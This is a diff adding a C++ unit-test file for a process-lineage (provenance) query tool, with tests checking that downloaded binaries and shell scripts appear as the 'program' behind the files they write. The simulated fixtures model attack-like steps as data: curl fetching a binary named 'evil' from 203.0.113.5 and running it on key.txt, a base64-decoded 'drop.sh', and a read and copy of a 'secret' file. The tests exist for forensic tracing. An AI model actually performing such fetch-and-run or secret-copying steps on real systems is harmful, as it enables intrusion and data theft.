@@ -1,0 +1,137 @@
+// The program a process ran is one of its inputs (query-cli/LINEAGE.md, "The program"): a
+// binary fetched and run names its download; the script a shell ran, for the commands it
+// started, names who wrote the script, though the shell's other reads stay held back; an
+// argv[1] that is data (not a script interpreter's) is no program.
+#include <fcntl.h>
+#include <gtest/gtest.h>
+
+#include "lineage_world.h"
+
+namespace {
+
+using namespace lineage_test;
+using nlohmann::json;
+
+bool has(const std::set<std::string>& e, const std::string& x) {
+  return e.count(x) != 0;
+}
+
+// Paths outside the mount that do not exist here: the collector checks a program path it
+// can stat against the exec's inode.
+constexpr char kTool[] = "/lineage-test-nowhere/evil";
+constexpr char kScript[] = "/lineage-test-nowhere/drop.sh";
+constexpr char kData[] = "/lineage-test-nowhere/list.txt";
+
+TEST(Programs, ABinaryFetchedAndRunIsListedWithItsDownload) {
+  TempDir dir;
+  World w(dir.path() + "/prov.db");
+  auto sh = w.setup({{10, "key.txt"}});
+  auto curl = w.run(sh, 200, {"curl", "-o", kTool, "http://203.0.113.5/x"});
+  w.write_outside(curl, kTool, 7001);
+  w.exit(curl);
+  World::Proc evil = w.fork(sh, 201);
+  w.exec_program(evil, kTool, {kTool, path("key.txt")}, 7001);
+  w.read(201, 10);
+  w.write_new(201, 12, "out");
+  w.exit(evil);
+  w.commit();
+  auto r = why(*w.db, path("out"));
+  ASSERT_TRUE(r.found) << r.message;
+  auto e = edges(r.graph);
+  const std::string tool = std::string(kTool) + " " + path("key.txt");
+  EXPECT_TRUE(has(e, "used(" + tool + ", " + kTool + ")")) << json(e).dump(1) << r.text;
+  EXPECT_TRUE(
+      has(e, "generated(" + std::string(kTool) + ", curl -o " + kTool + " http://203.0.113.5/x)"))
+      << json(e).dump(1) << r.text;
+  EXPECT_NE(r.text.find(std::string("program ") + kTool), std::string::npos) << r.text;
+  // The data argument it read is a read, not its program.
+  EXPECT_TRUE(has(e, "used(" + tool + ", key.txt)")) << json(e).dump(1) << r.text;
+  EXPECT_EQ(r.text.find("program " + path("key.txt")), std::string::npos) << r.text;
+  // Forward: everything the program wrote came of it.
+  auto im = impact(*w.db, kTool);
+  ASSERT_TRUE(im.found) << im.message;
+  EXPECT_NE(im.text.find(path("out")), std::string::npos) << im.text;
+  EXPECT_NE(im.text.find("run as the program of"), std::string::npos) << im.text;
+}
+
+// A copy made by a program: its copy restriction keeps the program (it decided the copy).
+TEST(Programs, AProgramThatOnlyCopiedStillListsItsProgram) {
+  TempDir dir;
+  World w(dir.path() + "/prov.db");
+  w.col->copies_reported_since(0);
+  auto sh = w.setup({});
+  auto curl = w.run(sh, 200, {"curl", "-o", kTool, "http://203.0.113.5/x"});
+  w.write_outside(curl, kTool, 7001);
+  w.exit(curl);
+  World::Proc evil = w.fork(sh, 201);
+  w.exec_program(evil, kTool, {kTool}, 7001);
+  w.read_outside(evil, "/lineage-test-nowhere/secret", 7002);
+  w.write_outside(evil, "/lineage-test-nowhere/copy", 7003, O_WRONLY | O_CREAT | O_EXCL);
+  w.copy(evil, 7003, 7002);
+  w.exit(evil);
+  w.cat_outside(sh, 300, "/lineage-test-nowhere/copy", 7003, 12, "out");
+  w.commit();
+  auto r = why(*w.db, path("out"));
+  ASSERT_TRUE(r.found) << r.message;
+  auto e = edges(r.graph);
+  EXPECT_TRUE(has(e, "used(" + std::string(kTool) + ", " + kTool + ")"))
+      << json(e).dump(1) << r.text;
+  EXPECT_TRUE(has(e, "used(" + std::string(kTool) + ", /lineage-test-nowhere/secret)"))
+      << json(e).dump(1) << r.text;
+  EXPECT_EQ(r.text.find("not copied"), std::string::npos) << r.text;
+}
+
+// `sh /x/drop.sh` (written by bash) starts tar, which writes on the mount. tar's answer
+// shows who ran it and from what script; the shell's read of another file stays held back.
+TEST(Programs, TheScriptThatStartedAWriterIsListedUnderIt) {
+  TempDir dir;
+  World w(dir.path() + "/prov.db");
+  auto sh = w.setup({{10, "key.txt"}});
+  auto writer = w.run(sh, 150, {"base64", "-d", "/lineage-test-nowhere/drop.b64"});
+  w.write_outside(writer, kScript, 7001);
+  w.exit(writer);
+  World::Proc script = w.run(sh, 200, {"sh", kScript});
+  w.read_outside(script, kScript, 7001);
+  w.read_outside(script, kData, 7002);  // data it read: reaches tar only through argv
+  World::Proc tar = w.run(script, 201, {"tar", "cf", path("out"), path("key.txt")});
+  w.read(201, 10);
+  w.write_new(201, 12, "out");
+  w.exit(tar);
+  w.exit(script);
+  w.commit();
+  auto r = why(*w.db, path("out"));
+  ASSERT_TRUE(r.found) << r.message;
+  auto e = edges(r.graph);
+  const std::string sh_cmd = std::string("sh ") + kScript;
+  EXPECT_TRUE(has(e, "used(" + sh_cmd + ", " + kScript + ")")) << json(e).dump(1) << r.text;
+  EXPECT_TRUE(
+      has(e, "generated(" + std::string(kScript) + ", base64 -d /lineage-test-nowhere/drop.b64)"))
+      << json(e).dump(1) << r.text;
+  EXPECT_FALSE(has(e, "used(" + sh_cmd + ", " + kData + ")")) << json(e).dump(1) << r.text;
+  EXPECT_NE(r.text.find(std::string("program ") + kScript), std::string::npos) << r.text;
+  EXPECT_NE(r.text.find("not listed (--all lists it)"), std::string::npos) << r.text;
+}
+
+// `tool /x/list.txt` forks sort: tool is no script interpreter, so list.txt is data it read,
+// held back like any parent's read, and never called its program.
+TEST(Programs, ADataArgumentOfAParentIsNoProgram) {
+  TempDir dir;
+  World w(dir.path() + "/prov.db");
+  auto sh = w.setup({{10, "in"}});
+  World::Proc tool = w.run(sh, 200, {"tool", kData});
+  w.read_outside(tool, kData, 7002);
+  World::Proc sort = w.run(tool, 201, {"sort", path("in")});
+  w.read(201, 10);
+  w.write_new(201, 12, "out");
+  w.exit(sort);
+  w.exit(tool);
+  w.commit();
+  auto r = why(*w.db, path("out"));
+  ASSERT_TRUE(r.found) << r.message;
+  auto e = edges(r.graph);
+  EXPECT_FALSE(has(e, std::string("used(tool ") + kData + ", " + kData + ")"))
+      << json(e).dump(1) << r.text;
+  EXPECT_EQ(r.text.find("program "), std::string::npos) << r.text;
+}
+
+}  // namespace
